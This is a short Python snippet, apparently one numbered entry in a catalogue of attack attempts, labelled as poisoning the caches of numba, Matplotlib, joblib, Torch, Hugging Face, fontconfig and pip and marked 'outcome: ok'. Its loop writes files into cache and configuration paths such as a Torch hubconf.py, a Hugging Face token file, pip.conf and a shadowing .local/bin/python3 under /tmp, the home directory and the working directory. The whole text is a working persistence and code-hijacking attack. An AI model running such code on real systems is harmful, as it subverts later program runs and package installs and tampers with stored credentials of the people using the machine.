# what: poison the caches of numba, Matplotlib, joblib, Torch, Hugging Face, fontconfig and pip
# list: 24
# outcome: ok
for name in (".cache/numba/x.nbi", ".cache/matplotlib/fontlist.json", ".matplotlib/matplotlibrc", ".cache/torch/hub/hubconf.py", ".cache/huggingface/token",
    ".cache/pip/x", ".config/matplotlib/matplotlibrc", ".config/pip/pip.conf", ".cache/fontconfig/x", "joblib/x.pkl", ".local/bin/python3", ".keras/keras.json"):
    for home in ("/tmp", os.path.expanduser("~"), "."):
        os.makedirs(os.path.dirname(f"{home}/{name}"), exist_ok=True)
        write(f"{home}/{name}")
